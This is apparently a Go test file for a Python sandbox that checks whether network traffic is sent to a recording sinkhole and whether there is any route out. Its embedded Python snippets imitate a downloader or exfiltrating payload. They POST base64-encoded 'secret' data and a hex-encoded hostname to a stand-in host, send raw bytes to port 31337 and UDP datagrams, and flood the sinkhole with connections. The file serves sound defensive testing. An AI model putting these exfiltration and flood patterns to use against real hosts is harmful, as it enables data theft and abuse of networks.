package sandboxtest

import (
	"encoding/base64"
	"encoding/hex"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/pyti/pyti/internal/sandbox"
)

// sinkholeCode resolves names and talks to them the way a downloader or an exfiltrating
// payload does: an HTTP POST with base64 data, a TLS ClientHello with a server name, raw bytes
// to an odd port, a UDP datagram. Each step prints what the code saw, so that the test can tell
// that it went on to its next step.
const sinkholeCode = `
import base64, http.client, ipaddress, socket, ssl
ip = socket.gethostbyname("collect.pyti-test.example")
print("resolved", ipaddress.ip_address(ip) in ipaddress.ip_network("198.18.0.0/15"))
print("own names on loopback", all(socket.gethostbyname(n).startswith("127.") for n in (socket.gethostname(), "localhost", "db.localhost")))
c = http.client.HTTPConnection("collect.pyti-test.example", 8080, timeout=10)
c.request("POST", "/up?h=" + "pyti-host".encode().hex(), body=b"d=" + base64.b64encode(b"secret=PYTI-TEST-DATA"),
          headers={"Content-Type": "application/x-www-form-urlencoded", "X-Id": "7"})
r = c.getresponse()
print("http", r.status, len(r.read()))
try:
    ctx = ssl.create_default_context()
    with socket.create_connection(("tls.pyti-test.example", 443), timeout=10) as s:
        ctx.wrap_socket(s, server_hostname="tls.pyti-test.example")
    print("tls handshake completed")
except (ssl.SSLError, OSError) as e:
    print("tls failed")
with socket.create_connection(("raw.pyti-test.example", 31337), timeout=10) as s:
    s.sendall(b"RAW-HELLO\x00\x01")
print("raw sent")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"UDP-HELLO", ("udp.pyti-test.example", 5353))
print("udp sent")
`

// testSinkhole: names resolve to PYTI's sinkhole, which accepts TCP on any port and records
// what was sent: the HTTP request (URL, headers, body), the TLS server name, the first bytes of
// anything else, and UDP datagrams; each with the name that led there.
func (s suite) testSinkhole(t *testing.T) {
	r := s.run(t, newJob(t).spec(py(sinkholeCode)...))
	wantOutcome(t, r, sandbox.OutcomeOK)
	want := "resolved True\nown names on loopback True\nhttp 200 1\ntls failed\nraw sent\nudp sent\n"
	if d := cmp.Diff(want, string(r.Stdout)); d != "" {
		t.Fatalf("(-want +got)\n%s\n%s", d, describe(r))
	}
	for _, c := range r.Contacts {
		if c.Transport == "tcp" {
			ap, err := netip.ParseAddrPort(c.Address)
			if err != nil || !sandbox.SinkholePrefix.Contains(ap.Addr()) {
				t.Errorf("contact %+v: address %q is not a sinkhole address", c, c.Address)
			}
		}
	}
	type contact struct {
		Transport, Name, Protocol, Method, URL, SNI, Data string
		Port                                              string
		Headers                                           []string
	}
	var got []contact
	for _, c := range r.Contacts {
		_, port, _ := strings.Cut(c.Address, ":")
		var hdrs []string
		for _, h := range c.Headers {
			if strings.HasPrefix(h, "X-Id") || strings.HasPrefix(h, "Content-Type") {
				hdrs = append(hdrs, h)
			}
		}
		got = append(got, contact{Transport: c.Transport, Name: c.Name, Protocol: c.Protocol, Method: c.Method,
			URL: c.URL, SNI: c.SNI, Data: string(c.Data), Port: port, Headers: hdrs})
	}
	wantC := []contact{
		{Transport: "tcp", Name: "collect.pyti-test.example", Protocol: "http", Method: "POST", Port: "8080",
			URL:     "http://collect.pyti-test.example:8080/up?h=" + hex.EncodeToString([]byte("pyti-host")),
			Headers: []string{"Content-Type: application/x-www-form-urlencoded", "X-Id: 7"},
			Data:    "d=" + base64.StdEncoding.EncodeToString([]byte("secret=PYTI-TEST-DATA"))},
		{Transport: "tcp", Name: "tls.pyti-test.example", Protocol: "tls", SNI: "tls.pyti-test.example", Port: "443"},
		{Transport: "tcp", Name: "raw.pyti-test.example", Protocol: "other", Data: "RAW-HELLO\x00\x01", Port: "31337"},
		{Transport: "udp", Protocol: "other", Data: "UDP-HELLO"},
	}
	sortC := cmpopts.SortSlices(func(a, b contact) bool { return a.Transport+a.Name < b.Transport+b.Name })
	if d := cmp.Diff(wantC, got, sortC); d != "" {
		t.Errorf("contacts (-want +got)\n%s", d)
	}
	var answered []string
	for _, q := range r.DNSQueries {
		if q.Type == "A" && strings.HasSuffix(q.Name, ".pyti-test.example") {
			answered = append(answered, q.Name)
			if a, err := netip.ParseAddr(q.Answer); err != nil || !sandbox.SinkholePrefix.Contains(a) {
				t.Errorf("query %+v: answer is not a sinkhole address", q)
			}
		}
	}
	for _, n := range []string{"collect.pyti-test.example", "tls.pyti-test.example", "raw.pyti-test.example", "udp.pyti-test.example"} {
		if !slices.Contains(answered, n) {
			t.Errorf("no A query for %s recorded: %v", n, answered)
		}
	}
}

// testSinkholeNoRouteOut: with the sinkhole in place the namespace still has no route out: the
// main routing table is empty, and a connection or a datagram to a public or a private address
// fails at once inside the namespace (nothing is sent: there is no device to send it on).
func (s suite) testSinkholeNoRouteOut(t *testing.T) {
	code := `
import errno, socket
routes = [l for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()]
print("routes", len(routes))
for addr in [("192.0.2.1", 80), ("8.8.8.8", 53), ("10.0.0.1", 22), ("172.16.0.1", 443)]:
    for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET, typ)
        s.settimeout(5)
        try:
            if typ == socket.SOCK_STREAM:
                s.connect(addr)
            else:
                s.sendto(b"x", addr)
            print(addr[0], typ.name, "SENT")
        except OSError as e:
            print(addr[0], typ.name, "unreachable" if e.errno in (errno.ENETUNREACH, errno.EHOSTUNREACH) else errno.errorcode.get(e.errno, e))
`
	r := s.run(t, newJob(t).spec(py(code)...))
	wantOutcome(t, r, sandbox.OutcomeOK)
	var want strings.Builder
	want.WriteString("routes 0\n")
	for _, a := range []string{"192.0.2.1", "8.8.8.8", "10.0.0.1", "172.16.0.1"} {
		want.WriteString(a + " SOCK_STREAM unreachable\n" + a + " SOCK_DGRAM unreachable\n")
	}
	if d := cmp.Diff(want.String(), string(r.Stdout)); d != "" {
		t.Errorf("(-want +got)\n%s\n%s", d, describe(r))
	}
	if len(r.Contacts) != 0 {
		t.Errorf("the sinkhole saw %d contacts for addresses outside it: %+v", len(r.Contacts), r.Contacts)
	}
}

// testSinkholeFlood: hostile code that floods the sinkhole gets its contacts bounded (at most
// 256 reported, the rest counted) and the run ends normally.
func (s suite) testSinkholeFlood(t *testing.T) {
	code := `
import socket
n = 0
for i in range(400):
    try:
        with socket.create_connection(("flood%d.pyti-test.example" % (i % 50), 1000 + i), timeout=10) as c:
            c.sendall(b"x" * 100)
        n += 1
    except OSError:
        pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(200):
    u.sendto(b"y" * 50000, ("198.18.0.9", 2000 + i))
print(n > 0)
`
	spec := newJob(t).spec(py(code)...)
	r := s.run(t, spec)
	wantOutcome(t, r, sandbox.OutcomeOK)
	if got := string(r.Stdout); got != "True\n" {
		t.Errorf("stdout %q\n%s", got, describe(r))
	}
	total := int64(len(r.Contacts)) + r.ContactsDropped
	if len(r.Contacts) > 256 || total < 400 {
		t.Errorf("%d contacts reported and %d dropped, want at most 256 reported and at least 400 in all", len(r.Contacts), r.ContactsDropped)
	}
	for _, c := range r.Contacts {
		if len(c.Data) > 4096 {
			t.Errorf("a contact keeps %d bytes", len(c.Data))
			break
		}
	}
}
